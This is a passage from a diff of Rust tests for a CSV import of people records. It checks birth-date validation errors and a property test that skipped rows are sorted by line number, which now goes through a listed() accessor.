         assert_eq!(born("2026-11-23", "2026-11-22"), Err(BadField::InFuture));
         assert!(born("1926-01-01", "2057-01-01") == Err(BadField::TooOld));
@@ -582,7 +797,7 @@ mod tests {
             }
             let Ok(read) = import(&bytes, ImportMode::SkipBad, today()) else { return Ok(()) };
             prop_assert_eq!(take_all(&bytes).is_ok(), read.skipped.is_empty());
-            prop_assert!(read.skipped.is_sorted_by_key(|row| row.line));
+            prop_assert!(read.skipped.listed().is_sorted_by_key(|row| row.line));
             let again = take_all(&write_csv(&read.people)).unwrap();
             prop_assert!(again.people == read.people);
         }
